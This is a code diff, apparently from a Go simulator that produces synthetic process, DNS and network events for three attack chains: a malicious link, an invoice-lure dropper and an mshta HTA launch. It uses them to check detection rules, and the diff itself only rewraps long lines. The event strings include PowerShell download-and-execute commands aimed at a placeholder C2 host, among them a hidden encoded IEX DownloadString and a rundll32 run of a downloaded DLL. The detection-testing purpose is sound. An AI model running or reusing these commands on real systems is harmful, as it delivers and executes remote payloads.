@@ -59,7 +59,9 @@ func (m *host) linkChain(chrome *process, at time.Time) *chain {
 	resolved := m.resolve(ps, at.Add(m.ms(1600, 1700)), c2Host, c2IP)
 	connected := m.connect(ps, at.Add(m.ms(1800, 1900)), c2IP, "-", 443)
 	m.powershell(ps, at.Add(m.ms(2700, 2800)),
-		"$p = Join-Path $env:TEMP 'malicious-link-test.txt'\r\nSet-Content -Path $p -Value (Get-Date)\r\n$d = Join-Path $env:TEMP 'link_cache.dll'\r\n(New-Object Net.WebClient).DownloadFile('https://"+c2Host+"/a/c.bin', $d)\r\nStart-Process rundll32.exe -ArgumentList \"$d,Start\"", "")
+		"$p = Join-Path $env:TEMP 'malicious-link-test.txt'\r\nSet-Content -Path $p -Value (Get-Date)\r\n$d = "+
+			"Join-Path $env:TEMP 'link_cache.dll'\r\n(New-Object Net.WebClient).DownloadFile('https://"+c2Host+
+			"/a/c.bin', $d)\r\nStart-Process rundll32.exe -ArgumentList \"$d,Start\"", "")
 	m.create(ps, at.Add(m.ms(2900, 3000)), m.user.temp()+"malicious-link-test.txt")
 	dll := m.user.temp() + "link_cache.dll"
 	dropped := m.create(ps, at.Add(m.ms(4100, 4300)), dll)
@@ -88,7 +90,9 @@ func (m *host) dropChain(edge *process, at time.Time) *chain {
 	exe := m.user.home() + `Downloads\Invoice_March2026.exe`
 	saved := m.download(edge, at, exe, "https://"+lureHost+"/d/8f31",
 		"https://"+lureHost+"/d/8f31/Invoice_March2026.exe")
-	run := m.run(edge, prog("rundll32.exe"), `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,ShellExec_RunDLL "`+exe+`"`, m.user, at.Add(6*time.Second))
+	run := m.run(edge, prog("rundll32.exe"),
+		`"C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,ShellExec_RunDLL "`+exe+`"`, m.user,
+		at.Add(6*time.Second))
 	payload := m.run(run.process, unknown(exe), `"`+exe+`" `, m.user, at.Add(6*time.Second+m.ms(300, 500)))
 	m.exit(run.process, at.Add(8*time.Second))
 	dropped := m.create(payload.process, at.Add(9*time.Second), m.user.temp()+`~inv4A1.dll`)
@@ -144,11 +148,15 @@ func (m *host) htaChain(edge *process, at time.Time) *chain {
 	saved := m.create(edge, at, hta)
 	marked := m.stream(edge, at.Add(m.ms(4, 9)), hta+":Zone.Identifier",
 		zone("https://"+lureHost+"/", "https://"+lureHost+"/link_test.hta"))
-	mshta := m.run(edge, prog("mshta.exe"), `"C:\Windows\SysWOW64\mshta.exe" "`+hta+`" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`, m.user, at.Add(2*time.Second))
+	mshta := m.run(edge, prog("mshta.exe"),
+		`"C:\Windows\SysWOW64\mshta.exe" "`+hta+
+			`" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`, m.user,
+		at.Add(2*time.Second))
 	resolved := m.resolve(mshta.process, at.Add(3*time.Second), c2Host, c2IP)
 	connected := m.connect(mshta.process, at.Add(3*time.Second+m.ms(100, 180)), c2IP, "-", 443)
 	enc := m.run(mshta.process, prog("powershell.exe"),
-		psArgs+"-nop -w hidden -enc "+encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+c2Host+"/h')"), m.user, at.Add(5*time.Second))
+		psArgs+"-nop -w hidden -enc "+encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+c2Host+"/h')"),
+		m.user, at.Add(5*time.Second))
 	m.connect(enc.process, at.Add(7*time.Second), c2IP, "-", 443)
 	c.finds(ruleContent, "mshta under Edge, with an .hta in Temp on its command line", child(mshta))
 	c.finds(ruleNetwork, "that mshta resolves a name and connects", child(mshta),
